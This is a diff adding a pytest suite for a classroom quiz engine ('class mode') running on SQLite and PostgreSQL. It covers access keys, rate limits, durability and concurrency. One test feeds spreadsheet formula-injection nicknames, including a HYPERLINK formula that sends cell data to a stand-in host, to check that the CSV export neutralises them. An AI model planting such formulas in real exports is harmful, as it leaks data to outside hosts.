@@ -1,0 +1,609 @@
+"""Class mode's engine on both databases: SQLite (a temp file) and PostgreSQL (a throw-away
+cluster from tests/postgres.py; skipped with the reason when its binaries are missing)."""
+
+from __future__ import annotations
+
+import csv
+import io
+import threading
+import time
+from collections.abc import Callable
+
+import pytest
+
+from tests.postgres import create_database, postgres_url  # noqa: F401  (fixture)
+from torchatlas.classmode import (
+    ALPHABET,
+    ClassError,
+    ClassStore,
+    ErrorCode,
+    Limits,
+    clean,
+)
+from torchatlas.lessons import find
+
+LESSON = "broadcasting"  # three steps, each with a question
+
+
+class Clock:
+    """Wall time the test moves by hand."""
+
+    def __init__(self) -> None:
+        self.now = 1_800_000_000.0
+
+    def __call__(self) -> float:
+        return self.now
+
+
+@pytest.fixture(params=["sqlite", "postgresql"])
+def db_url(request: pytest.FixtureRequest, tmp_path) -> str:  # type: ignore[no-untyped-def]
+    if request.param == "sqlite":
+        return f"sqlite:///{tmp_path / 'classes.sqlite3'}"
+    return create_database(request.getfixturevalue("postgres_url"))
+
+
+@pytest.fixture
+def clock() -> Clock:
+    return Clock()
+
+
+@pytest.fixture
+def make(db_url: str, clock: Clock) -> Callable[..., ClassStore]:
+    """A store on this test's database (call again for a second replica / a restart)."""
+    return lambda **limits: ClassStore(db_url, clock=clock, limits=Limits(**limits))
+
+
+def refused(code: ErrorCode, call: Callable[[], object]) -> ClassError:
+    with pytest.raises(ClassError) as caught:
+        call()
+    assert caught.value.code == code, (caught.value.code, caught.value.params)
+    return caught.value
+
+
+def go_to(store: ClassStore, teacher, number: int):  # type: ignore[no-untyped-def]
+    step = find(LESSON).step(number)
+    return store.move(
+        teacher.code, teacher.teacher_key, step=number, room=step.room, query=step.fields()
+    )
+
+
+# --------------------------------------------------------------------------- the whole flow
+
+
+def test_a_class_follows_answers_and_is_summarised(make) -> None:  # type: ignore[no-untyped-def]
+    store = make()
+    lesson = find(LESSON)
+    teacher = store.start(LESSON, "ko", client="teacher")
+    state = store.state(teacher.code)
+    assert (state.step, state.room, state.query, state.lang) == (0, "", (), "ko")
+    ada = store.join(teacher.code.lower(), "Ada", client="a")  # codes are case-insensitive
+    bob = store.join(teacher.code, "Bob", client="b")
+    cy = store.join(teacher.code, "Cy", client="c")
+    assert store.state(teacher.code).students == 3
+    before = store.version(teacher.code)
+
+    state = go_to(store, teacher, 1)
+    step = lesson.step(1)
+    assert (state.step, state.room, state.fields()) == (1, step.room, step.fields())
+    assert state.version == before + 1 and store.version(teacher.code) == before + 1
+    assert not state.asked and state.options == step.question.options and state.correct is None
+    refused(ErrorCode.NOT_ASKED, lambda: store.answer(teacher.code, ada.student_key, 0))
+
+    state = store.ask(teacher.code, teacher.teacher_key)
+    assert state.asked and not state.revealed and state.version == before + 2
+    right = step.question.answer
+    wrong = (right + 1) % len(step.question.options)
+    store.answer(teacher.code, ada.student_key, wrong)
+    store.answer(teacher.code, ada.student_key, right)  # changed before the reveal
+    store.answer(teacher.code, bob.student_key, wrong)
+    tally = store.tally(teacher.code, teacher.teacher_key)
+    expected = [0] * len(step.question.options)
+    expected[right] += 1
+    expected[wrong] += 1
+    assert (tally.joined, tally.answered, tally.counts) == (3, 2, tuple(expected))
+    assert tally.correct == right and tally.share_correct == pytest.approx(0.5)
+    assert store.state(teacher.code).correct is None  # students learn it only at the reveal
+
+    state = store.reveal(teacher.code, teacher.teacher_key)
+    assert state.revealed and state.correct == right
+    refused(ErrorCode.ALREADY_REVEALED, lambda: store.answer(teacher.code, bob.student_key, right))
+    refused(ErrorCode.ALREADY_REVEALED, lambda: store.answer(teacher.code, cy.student_key, right))
+    refused(ErrorCode.ALREADY_REVEALED, lambda: store.ask(teacher.code, teacher.teacher_key))
+    assert store.tally(teacher.code, teacher.teacher_key).counts == tuple(expected)
+
+    go_to(store, teacher, 2)
+    store.ask(teacher.code, teacher.teacher_key)
+    second = lesson.step(2).question
+    store.answer(teacher.code, cy.student_key, second.answer)
+    assert store.student(teacher.code, ada.student_key).answers == ((1, right),)
+    assert store.student(teacher.code, cy.student_key).answers == ((2, second.answer),)
+    # The tally of an earlier step on request; the current one by default.
+    assert store.tally(teacher.code, teacher.teacher_key, step=1).answered == 2
+    assert store.tally(teacher.code, teacher.teacher_key).counts[second.answer] == 1
+
+    summary = store.summary(teacher.code, teacher.teacher_key)
+    assert [q.step for q in summary] == [1, 2]
+    assert summary[0].revealed and not summary[1].revealed
+    assert summary[0].counts == tuple(expected) and summary[0].correct == right
+    assert summary[1].answered == 1 and summary[1].share_correct == 1.0
+
+    rows = list(csv.reader(io.StringIO(store.summary_csv(teacher.code, teacher.teacher_key))))
+    assert rows[0] == ["nickname", "step_1", "step_1_right", "step_2", "step_2_right",
+                       "right_total"]  # fmt: skip
+    by_name = {row[0]: row for row in rows[1:-1]}
+    assert by_name["Ada"][1:3] == [step.question.options[right], "1"]
+    assert by_name["Bob"][1:3] == [step.question.options[wrong], "0"]
+    assert by_name["Cy"][3:] == [second.options[second.answer], "1", "1"]
+    assert rows[-1][0] == "share_right" and rows[-1][2] == "0.500"
+
+    store.end(teacher.code, teacher.teacher_key)
+    state = store.state(teacher.code)
+    assert state.ended and state.version > before + 4
+    refused(ErrorCode.CLASS_ENDED, lambda: store.join(teacher.code, "Late", client="d"))
+    refused(ErrorCode.CLASS_ENDED, lambda: go_to(store, teacher, 3))
+    assert len(store.summary(teacher.code, teacher.teacher_key)) == 2  # kept for the teacher
+
+
+def test_free_class_has_no_questions(make) -> None:  # type: ignore[no-untyped-def]
+    store = make()
+    teacher = store.start(None, "en", client="t")
+    state = store.move(
+        teacher.code, teacher.teacher_key, step=1, room="strides",
+        query={"s_shape": "9", "s_ops": [".view(3, 3)", "[1:, 1:]"], "lang": "ko"},
+    )  # fmt: skip
+    # The reader's language is theirs: "lang" is not part of the class's place.
+    assert state.fields() == {"s_shape": "9", "s_ops": [".view(3, 3)", "[1:, 1:]"]}
+    refused(ErrorCode.NO_QUESTION, lambda: store.ask(teacher.code, teacher.teacher_key))
+    tally = store.tally(teacher.code, teacher.teacher_key)
+    assert tally.counts == () and tally.correct is None
+
+
+def test_unknown_lesson_and_language(make) -> None:  # type: ignore[no-untyped-def]
+    store = make()
+    refused(ErrorCode.NO_SUCH_LESSON, lambda: store.start("no_such", "en", client="t"))
+    refused(ErrorCode.NO_SUCH_LESSON, lambda: store.start("x" * 1000, "en", client="t"))
+    teacher = store.start(LESSON, "<script>", client="t")
+    assert store.state(teacher.code).lang == "en"
+
+
+# --------------------------------------------------------------------------- places
+
+
+def test_bad_places_are_refused(make) -> None:  # type: ignore[no-untyped-def]
+    store = make()
+    teacher = store.start(LESSON, "en", client="t")
+    lesson_steps = len(find(LESSON).steps)
+
+    def move(step: object = 1, room: object = "strides", query: object = None) -> object:
+        return store.move(
+            teacher.code, teacher.teacher_key, step=step, room=room, query=query or {}
+        )
+
+    refused(ErrorCode.BAD_PLACE, lambda: move(room="nowhere"))
+    refused(ErrorCode.BAD_PLACE, lambda: move(room=["strides"]))
+    refused(ErrorCode.BAD_PLACE, lambda: move(query={"a_prog": "x"}))  # autograd's field
+    refused(ErrorCode.BAD_PLACE, lambda: move(query={"s_shape": ["9", "3"]}))  # not repeated
+    refused(ErrorCode.BAD_PLACE, lambda: move(query={"s_shape": 9}))
+    refused(ErrorCode.BAD_PLACE, lambda: move(query={"s_ops": ["x"] * 41}))
+    refused(ErrorCode.BAD_PLACE, lambda: move(query={"s_shape": "9" * 9000}))
+    refused(ErrorCode.BAD_PLACE, lambda: move(query={f"k{i}": "1" for i in range(41)}))
+    refused(ErrorCode.BAD_PLACE, lambda: move(query=[("s_shape", "9")]))
+    refused(ErrorCode.BAD_PLACE, lambda: move(step=lesson_steps + 1))
+    refused(ErrorCode.BAD_PLACE, lambda: move(step=-1))
+    refused(ErrorCode.BAD_PLACE, lambda: move(step=True))
+    refused(ErrorCode.BAD_PLACE, lambda: move(step="1"))
+    assert store.version(teacher.code) == 1  # nothing refused changed the class
+    refused(ErrorCode.BAD_PLACE, lambda: move(query={"m_src": "x"}))  # shapes' source field
+    state = move(query={"s_shape": "9"})
+    assert state.version == 2
+    # The source field of a room that has one travels with the place.
+    state = move(room="shapes", query={"m_src": "abc", "lesson": LESSON, "step": "1"})
+    assert dict(state.query)["m_src"] == "abc"
+
+
+# --------------------------------------------------------------------------- codes and keys
+
+
+def test_codes_use_the_alphabet_only() -> None:
+    codes = {clean.new_code() for _ in range(3000)}
+    assert len(codes) > 2990  # random: clashes are ~1 in a million pairs
+    assert all(len(code) == 6 and set(code) <= set(ALPHABET) for code in codes)
+    assert set("".join(codes)) == set(ALPHABET)  # every letter is used
+    assert not set(ALPHABET) & set("0O1I")
+
+
+def test_malformed_codes_never_reach_the_database(make, monkeypatch) -> None:  # type: ignore[no-untyped-def]
+    store = make()
+    teacher = store.start(None, "en", client="t")
+    from torchatlas.classmode import store as module
+
+    def no_database(*args: object, **kwargs: object) -> object:
+        raise AssertionError("the database was asked")
+
+    monkeypatch.setattr(module, "read", no_database)
+    monkeypatch.setattr(module, "write", no_database)
+    for code in ["ABCDE", "ABCDEFG", "ABCDE0", "ABCDEO", "ABCDE1", "ABCDEI", "ÄBCDEF",
+                 "ABC EF", "", None, 123456, ["ABCDEF"], "ＡＢＣＤＥＦ"]:  # fmt: skip
+        refused(ErrorCode.NO_SUCH_CLASS, lambda code=code: store.version(code))
+        refused(ErrorCode.NO_SUCH_CLASS, lambda code=code: store.join(code, "x", client="c"))
+        refused(ErrorCode.NO_SUCH_CLASS, lambda code=code: store.state(code))
+        assert store.is_teacher(code, teacher.teacher_key) is False
+    # A well-formed code with a key that cannot be one is refused before the database too.
+    refused(ErrorCode.NOT_TEACHER, lambda: store.ask(teacher.code, "short"))
+    refused(ErrorCode.NOT_STUDENT, lambda: store.answer(teacher.code, "x" * 65, 0))
+
+
+def test_a_valid_but_unknown_code(make) -> None:  # type: ignore[no-untyped-def]
+    store = make()
+    refused(ErrorCode.NO_SUCH_CLASS, lambda: store.version("ABCDEF"))
+    refused(ErrorCode.NO_SUCH_CLASS, lambda: store.state("ABCDEF"))
+    refused(ErrorCode.NO_SUCH_CLASS, lambda: store.join("ABCDEF", "x", client="c"))
+
+
+def test_only_the_teacher_key_drives_the_class(make, monkeypatch) -> None:  # type: ignore[no-untyped-def]
+    store = make()
+    teacher = store.start(LESSON, "en", client="t")
+    other = store.start(LESSON, "en", client="t")
+    pupil = store.join(teacher.code, "Eve", client="e")
+    key = teacher.teacher_key
+    same_length = ("A" if key[0] != "A" else "B") + key[1:]
+    assert len(same_length) == len(key)
+    for wrong in [same_length, other.teacher_key, pupil.student_key, key.lower() + "x", ""]:
+        refused(
+            ErrorCode.NOT_TEACHER,
+            lambda w=wrong: store.move(teacher.code, w, step=1, room="devices", query={}),
+        )
+        refused(ErrorCode.NOT_TEACHER, lambda w=wrong: store.ask(teacher.code, w))
+        refused(ErrorCode.NOT_TEACHER, lambda w=wrong: store.reveal(teacher.code, w))
+        refused(ErrorCode.NOT_TEACHER, lambda w=wrong: store.tally(teacher.code, w))
+        refused(ErrorCode.NOT_TEACHER, lambda w=wrong: store.summary(teacher.code, w))
+        refused(ErrorCode.NOT_TEACHER, lambda w=wrong: store.summary_csv(teacher.code, w))
+        refused(ErrorCode.NOT_TEACHER, lambda w=wrong: store.end(teacher.code, w))
+        assert not store.is_teacher(teacher.code, wrong)
+    assert store.version(teacher.code) == 1 and not store.state(teacher.code).ended
+    assert store.is_teacher(teacher.code, key) and store.is_teacher(teacher.code.lower(), key)
+
+    # The comparison is hmac.compare_digest's (constant time), on the key's digest.
+    calls: list[tuple[bytes, bytes]] = []
+    real = clean.hmac.compare_digest
+
+    def spy(a: bytes, b: bytes) -> bool:
+        calls.append((a, b))
+        return real(a, b)
+
+    monkeypatch.setattr(clean.hmac, "compare_digest", spy)
+    assert store.is_teacher(teacher.code, key)
+    refused(ErrorCode.NOT_TEACHER, lambda: store.ask(teacher.code, same_length))
+    assert len(calls) == 2 and all(len(a) == len(b) == 64 for a, b in calls)
+
+
+def test_a_student_key_acts_only_for_its_student_in_its_class(make) -> None:  # type: ignore[no-untyped-def]
+    store = make()
+    first = store.start(LESSON, "en", client="t")
+    second = store.start(LESSON, "en", client="t")
+    ann = store.join(first.code, "Ann", client="a")
+    ben = store.join(first.code, "Ben", client="b")
+    for teacher in (first, second):
+        go_to(store, teacher, 1)
+        store.ask(teacher.code, teacher.teacher_key)
+    store.answer(first.code, ann.student_key, 2)
+    refused(ErrorCode.NOT_STUDENT, lambda: store.answer(second.code, ann.student_key, 1))
+    refused(ErrorCode.NOT_STUDENT, lambda: store.student(second.code, ann.student_key))
+    refused(ErrorCode.NOT_STUDENT, lambda: store.answer(first.code, first.teacher_key, 1))
+    forged = ("A" if ann.student_key[0] != "A" else "B") + ann.student_key[1:]
+    refused(ErrorCode.NOT_STUDENT, lambda: store.answer(first.code, forged, 1))
+    store.answer(first.code, ben.student_key, 0)
+    assert store.student(first.code, ann.student_key).answers == ((1, 2),)
+    assert store.student(first.code, ben.student_key).answers == ((1, 0),)
+    assert store.tally(second.code, second.teacher_key).answered == 0
+
+
+def test_answers_must_be_one_of_the_options(make) -> None:  # type: ignore[no-untyped-def]
+    store = make()
+    teacher = store.start(LESSON, "en", client="t")
+    pupil = store.join(teacher.code, "", client="p")
+    go_to(store, teacher, 1)
+    store.ask(teacher.code, teacher.teacher_key)
+    count = len(find(LESSON).step(1).question.options)
+    for bad in [-1, count, 10**30, True, "1", 1.0, None]:
+        refused(
+            ErrorCode.BAD_OPTION, lambda b=bad: store.answer(teacher.code, pupil.student_key, b)
+        )
+    assert store.tally(teacher.code, teacher.teacher_key).answered == 0
+    store.answer(teacher.code, pupil.student_key, count - 1)
+    assert store.tally(teacher.code, teacher.teacher_key).counts[count - 1] == 1
+
+
+# --------------------------------------------------------------------------- nicknames
+
+
+def test_nicknames_are_cleaned() -> None:
+    limit = 24
+    assert clean.clean_nickname("Ａｄａ", limit) == "Ada"  # NFKC: full-width letters
+    assert clean.clean_nickname("  A\u202eda\u200b\u0000  ", limit) == "Ada"  # bidi, ZW, NUL
+    assert clean.clean_nickname("Ada \t\n  Love\u00a0lace", limit) == "Ada Love lace"
+    assert clean.clean_nickname("x" * 30, limit) == "x" * 24
+    assert clean.clean_nickname("\u200b\u2066", limit) == ""
+    assert clean.clean_nickname(None, limit) == ""
+    assert clean.clean_nickname("한국어 이름", limit) == "한국어 이름"
+    for bad in ["x" * 201, 12, b"Ada", ["Ada"]]:
+        refused(ErrorCode.BAD_NICKNAME, lambda b=bad: clean.clean_nickname(b, limit))
+
+
+def test_nicknames_are_unique_in_a_class(make) -> None:  # type: ignore[no-untyped-def]
+    store = make()
+    teacher = store.start(None, "en", client="t")
+    names = [
+        store.join(teacher.code, raw, client=f"c{i}").nickname
+        for i, raw in enumerate(
+            ["Ada", "ADA", " ada ", "Ａｄａ", "", None, "Student 3", "z" * 24, "Z" * 24]
+        )
+    ]
+    assert names[:4] == ["Ada", "ADA 2", "ada 3", "Ada 4"]
+    assert names[4:6] == ["Student 5", "Student 6"]
+    assert names[6] == "Student 3"
+    assert names[7:] == ["z" * 24, "Z" * 22 + " 2"]
+    assert all(len(name) <= 24 for name in names)
+    other = store.start(None, "en", client="t")  # another class may have its own Ada
+    assert store.join(other.code, "Ada", client="x").nickname == "Ada"
+
+
+def test_csv_neutralises_formulas_and_carries_no_keys(make) -> None:  # type: ignore[no-untyped-def]
+    store = make()
+    teacher = store.start(LESSON, "en", client="t")
+    go_to(store, teacher, 1)
+    store.ask(teacher.code, teacher.teacher_key)
+    hostile = ['=HYPERLINK("http://x.test/?"&A1,"click")', "+1+2", "-3", "@SUM(A1)",
+               " =1+1", "＝1+1"]  # fmt: skip
+    keys = []
+    for i, name in enumerate(hostile):
+        pupil = store.join(teacher.code, name, client=f"c{i}")
+        keys.append(pupil.student_key)
+        store.answer(teacher.code, pupil.student_key, 0)
+    text = store.summary_csv(teacher.code, teacher.teacher_key)
+    assert not any(key in text for key in [*keys, teacher.teacher_key])
+    rows = list(csv.reader(io.StringIO(text)))
+    cells = [row[0] for row in rows[1:-1]]
+    assert len(cells) == len(hostile)
+    for cell in cells:
+        assert cell.startswith("'"), cell
+        assert cell[1:].lstrip()[0] in "=+-@"
+    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+
+
+# --------------------------------------------------------------------------- abuse limits
+
+
+def test_joins_are_rate_limited_per_client(make, clock) -> None:  # type: ignore[no-untyped-def]
+    store = make(joins_per_minute=5)
+    teacher = store.start(None, "en", client="teacher")
+    for _ in range(2):  # with the start and the two joins below: 5 in the minute
+        refused(ErrorCode.NO_SUCH_CLASS, lambda: store.join("ABCDEF", "x", client="teacher"))
+        store.join(teacher.code, "x", client="teacher")
+    # The wrong codes counted too: guessing codes is what the limit slows.
+    error = refused(ErrorCode.RATE_LIMITED, lambda: store.join(teacher.code, "y", client="teacher"))
+    assert error.params["limit"] == "5" and 1 <= int(error.params["seconds"]) <= 60
+    refused(ErrorCode.RATE_LIMITED, lambda: store.start(None, "en", client="teacher"))
+    store.join(teacher.code, "z", client="someone else")
+    clock.now += 61
+    store.join(teacher.code, "w", client="teacher")
+
+
+def test_live_classes_are_limited(make) -> None:  # type: ignore[no-untyped-def]
+    store = make(max_classes=3)
+    teachers = [store.start(None, "en", client=f"t{i}") for i in range(3)]
+    error = refused(ErrorCode.TOO_MANY_CLASSES, lambda: store.start(None, "en", client="t9"))
+    assert error.params == {"limit": "3"}
+    store.end(teachers[0].code, teachers[0].teacher_key)  # an ended class frees its place
+    store.start(None, "en", client="t9")
+    refused(ErrorCode.TOO_MANY_CLASSES, lambda: store.start(None, "en", client="t10"))
+
+
+def test_students_per_class_are_limited(make) -> None:  # type: ignore[no-untyped-def]
+    store = make(max_students=3)
+    teacher = store.start(None, "en", client="t")
+    for i in range(3):
+        store.join(teacher.code, f"s{i}", client=f"c{i}")
+    error = refused(ErrorCode.CLASS_FULL, lambda: store.join(teacher.code, "s4", client="c4"))
+    assert error.params == {"limit": "3"}
+    assert store.state(teacher.code).students == 3
+
+
+def test_idle_classes_expire(make, clock) -> None:  # type: ignore[no-untyped-def]
+    store = make(idle_hours=3)
+    idle = store.start(LESSON, "en", client="t")
+    pupil = store.join(idle.code, "Ann", client="a")
+    busy = store.start(None, "en", client="t")
+    clock.now += 2 * 3600
+    store.move(busy.code, busy.teacher_key, step=1, room="devices", query={})
+    assert store.expire_idle() == 0
+    clock.now += 3600 + 1  # idle: 3 h 1 s; busy: 1 h 1 s
+    assert store.expire_idle() == 1
+    refused(ErrorCode.NO_SUCH_CLASS, lambda: store.state(idle.code))
+    refused(ErrorCode.NO_SUCH_CLASS, lambda: store.version(idle.code))
+    refused(ErrorCode.NO_SUCH_CLASS, lambda: store.student(idle.code, pupil.student_key))
+    assert store.state(busy.code).step == 1
+    assert make().expire_idle() == 0  # another replica finds nothing more to do
+
+
+# --------------------------------------------------------------------------- durability
+
+
+def test_a_restarted_store_finds_everything(make) -> None:  # type: ignore[no-untyped-def]
+    store = make()
+    teacher = store.start(LESSON, "en", client="t")
+    pupils = [store.join(teacher.code, f"p{i}", client=f"c{i}") for i in range(3)]
+    go_to(store, teacher, 2)
+    store.ask(teacher.code, teacher.teacher_key)
+    for i, pupil in enumerate(pupils):
+        store.answer(teacher.code, pupil.student_key, i)
+    before = (store.state(teacher.code), store.tally(teacher.code, teacher.teacher_key))
+    del store
+
+    again = make()  # a new store: it reads only what was committed
+    assert (again.state(teacher.code), again.tally(teacher.code, teacher.teacher_key)) == before
+    assert again.student(teacher.code, pupils[2].student_key).answers == ((2, 2),)
+    assert again.is_teacher(teacher.code, teacher.teacher_key)
+
+
+def test_restart_in_a_fresh_process_sees_committed_answers(db_url: str) -> None:
+    """No shared engine or cache: a second interpreter on the same database."""
+    import subprocess
+    import sys
+
+    store = ClassStore(db_url)
+    teacher = store.start(LESSON, "en", client="t")
+    pupil = store.join(teacher.code, "p", client="c")
+    go_to(store, teacher, 1)
+    store.ask(teacher.code, teacher.teacher_key)
+    store.answer(teacher.code, pupil.student_key, 3)
+    script = (
+        "import sys; from torchatlas.classmode import ClassStore;"
+        "s = ClassStore(sys.argv[1]); print(s.tally(sys.argv[2], sys.argv[3]).counts,"
+        " s.student(sys.argv[2], sys.argv[4]).answers)"
+    )
+    out = subprocess.run(
+        [sys.executable, "-c", script, db_url, teacher.code, teacher.teacher_key,
+         pupil.student_key],
+        capture_output=True, text=True, timeout=120, check=True,
+    ).stdout  # fmt: skip
+    assert out.strip() == "(0, 0, 0, 1) ((1, 3),)"
+
+
+def test_two_replicas_share_a_class(make) -> None:  # type: ignore[no-untyped-def]
+    teacher_side, student_side = make(), make()  # two stores = two replicas' caches
+    teacher = teacher_side.start(LESSON, "en", client="t")
+    pupil = student_side.join(teacher.code, "Remote", client="r")
+    assert student_side.version(teacher.code) == 1  # cached now
+    go_to(teacher_side, teacher, 1)
+    assert student_side.state(teacher.code).step == 1  # state is read, never cached
+    moved = time.monotonic()
+    while student_side.version(teacher.code) != 2:
+        assert time.monotonic() - moved < student_side.limits.version_cache_s + 0.5
+        time.sleep(0.02)
+    teacher_side.ask(teacher.code, teacher.teacher_key)
+    student_side.answer(teacher.code, pupil.student_key, 1)
+    assert teacher_side.tally(teacher.code, teacher.teacher_key).answered == 1
+
+
+def test_version_reads_are_shared(make, monkeypatch) -> None:  # type: ignore[no-untyped-def]
+    store = make(version_cache_s=0.5)
+    teacher = store.start(None, "en", client="t")
+    from torchatlas.classmode import store as module
+
+    reads = []
+    real = module.read
+    monkeypatch.setattr(module, "read", lambda *a: reads.append(1) or real(*a))
+    store._versions.clear()  # as a replica that has not read it yet
+    start = time.monotonic()
+    threads = [
+        threading.Thread(target=lambda: [store.version(teacher.code) for _ in range(20)])
+        for _ in range(20)
+    ]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    elapsed = time.monotonic() - start
+    assert len(reads) <= 1 + int(elapsed / 0.5) + 1, (len(reads), elapsed)  # not 400
+
+
+# --------------------------------------------------------------------------- concurrency
+
+
+def test_sixty_students_answer_at_once(make) -> None:  # type: ignore[no-untyped-def]
+    store = make()
+    teacher = store.start(LESSON, "en", client="t")
+    pupils = [store.join(teacher.code, f"s{i}", client=f"c{i}") for i in range(60)]
+    go_to(store, teacher, 1)
+    store.ask(teacher.code, teacher.teacher_key)
+    options = len(find(LESSON).step(1).question.options)
+    gate = threading.Barrier(60)
+    errors: list[BaseException] = []
+
+    def answer(index: int) -> None:
+        try:
+            gate.wait()
+            store.answer(teacher.code, pupils[index].student_key, index % options)
+        except BaseException as error:
+            errors.append(error)
+
+    threads = [threading.Thread(target=answer, args=(i,)) for i in range(60)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    assert errors == []
+    tally = store.tally(teacher.code, teacher.teacher_key)
+    assert tally.answered == 60 and sum(tally.counts) == 60
+    assert tally.counts == tuple(sum(i % options == o for i in range(60)) for o in range(options))
+
+
+def test_joins_and_a_reveal_race_cleanly(make) -> None:  # type: ignore[no-untyped-def]
+    """Answers in flight while the teacher reveals: each is counted or refused as revealed."""
+    store = make(max_students=40)
+    teacher = store.start(LESSON, "en", client="t")
+    go_to(store, teacher, 1)
+    store.ask(teacher.code, teacher.teacher_key)
+    outcome: list[str] = []
+    gate = threading.Barrier(41)
+
+    def student(i: int) -> None:
+        gate.wait()
+        try:
+            pupil = store.join(teacher.code, "same", client=f"c{i}")
+            store.answer(teacher.code, pupil.student_key, 0)
+            outcome.append("counted")
+        except ClassError as error:
+            outcome.append(error.code)
+
+    def reveal() -> None:
+        gate.wait()
+        time.sleep(0.05)
+        store.reveal(teacher.code, teacher.teacher_key)
+
+    threads = [threading.Thread(target=student, args=(i,)) for i in range(40)]
+    threads.append(threading.Thread(target=reveal))
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    assert set(outcome) <= {"counted", ErrorCode.ALREADY_REVEALED}
+    assert len(outcome) == 40
+    tally = store.tally(teacher.code, teacher.teacher_key)
+    assert tally.answered == outcome.count("counted") and tally.joined == 40
+    names = {row[0] for row in csv.reader(io.StringIO(
+        store.summary_csv(teacher.code, teacher.teacher_key)))}  # fmt: skip
+    assert len(names) == 40 + 2  # 40 distinct nicknames ("same", "same 2", ...), header, shares
+
+
+def test_migrations_run_once_when_replicas_start_together(db_url: str) -> None:
+    from sqlalchemy import create_engine, select
+
+    from torchatlas.classmode import db, schema
+
+    engines = [create_engine(db.normalise(db_url)) for _ in range(4)]
+    found: list[int] = []
+    errors: list[BaseException] = []
+    gate = threading.Barrier(len(engines))
+
+    def migrate(engine) -> None:  # type: ignore[no-untyped-def]
+        gate.wait()
+        try:
+            found.append(
+                db.write(engine, schema.migrate, retry_on=(db.OperationalError, db.DBAPIError))
+            )
+        except BaseException as error:
+            errors.append(error)
+
+    threads = [threading.Thread(target=migrate, args=(engine,)) for engine in engines]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    assert errors == []
+    assert sorted(found) == [0, *[schema.VERSION] * (len(engines) - 1)]
+    with engines[0].connect() as conn:
+        assert conn.execute(select(schema.schema.c.version)).scalars().all() == [schema.VERSION]
+    for engine in engines:
+        engine.dispose()
